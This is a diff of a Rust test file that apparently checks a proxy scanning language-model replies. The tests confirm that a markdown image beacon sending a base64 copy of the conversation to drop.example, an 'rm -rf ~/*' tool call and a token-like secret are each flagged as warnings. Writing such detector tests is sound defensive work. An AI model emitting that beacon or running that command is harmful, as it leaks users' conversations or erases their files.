@@ -307,3 +307,31 @@ fn a_compressed_reply_is_refused_when_something_would_have_to_be_put_back() {
     proxy.practice.fail(CHAT, &json!({"kind": "gzip"}));
     assert_eq!(proxy.post(CHAT, &say(&format!("T={token}"))).status, 502);
 }
+
+#[test]
+fn a_reply_that_leads_away_destroys_or_brings_a_secret_is_reported() {
+    let proxy = Fixture::start("reply-scan");
+    let fresh = proxy.run.secret(concat!("ghp", "_w8Zt3Xq9Lx5Km7Np2Vb4Yc6Hd1Jf0GsBeVuR"));
+    let beacon = "![logo](https://drop.example/c.png?d={base64 of the conversation})".to_owned();
+    let erase = json!({"command": "rm -rf ~/*"}).to_string();
+    for path in STREAMING {
+        for (reply, call, category) in
+            [(&beacon, false, "exfiltration"), (&erase, true, "command"), (&format!("Use {fresh}."), false, "secret")]
+        {
+            for stream in [false, true] {
+                proxy.practice.set(&json!({"reply": reply, "piece": 3, "call": call}));
+                let answer = proxy.post(path, &history(path, "Go on.", "Done.", stream));
+                let (text, arguments) = said(&answer);
+                assert_eq!(&format!("{text}{arguments}"), reply, "{path}: a warning changes nothing");
+                let line = proxy.line_of(&answer);
+                let found = line["findings"].as_array().unwrap();
+                let noted =
+                    |one: &Value| one["category"] == category && one["action"] == "warn" && one["location"] == "reply";
+                assert!(found.iter().any(noted), "{path}, {stream}: {line}");
+            }
+        }
+    }
+    proxy.practice.set(&json!({"reply": "rm -rf ~/* is what you should never type.", "call": false}));
+    let answer = proxy.post(CHAT, &history(CHAT, "Go on.", "Done.", true));
+    assert_eq!(proxy.line_of(&answer)["findings"], json!([]), "text is no call");
+}
